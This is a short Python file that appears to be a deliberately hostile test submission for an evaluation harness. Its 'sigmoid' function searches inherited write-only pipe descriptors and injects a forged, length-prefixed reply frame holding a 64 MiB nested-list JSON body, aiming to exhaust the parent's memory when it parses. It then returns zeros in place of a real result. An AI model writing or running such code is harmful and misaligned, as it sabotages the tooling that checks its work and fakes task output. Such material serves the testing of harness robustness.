# expected: 40
# forges a reply frame whose JSON header is 64 MiB of nested lists (parsing it would take gigabytes)
import numpy as np


def relu(x):
    return np.maximum(np.asarray(x, dtype=float), 0.0)


import fcntl, os, stat, struct


def sigmoid(x):
    body = b'{"op": "reply", "id": 0, "value": [' + b"[0]," * (16 << 20) + b"0]}"
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                os.write(fd, struct.pack("<QI", len(body), 0))
                os.write(fd, body)
        except OSError:
            pass
    return np.zeros(np.shape(x))
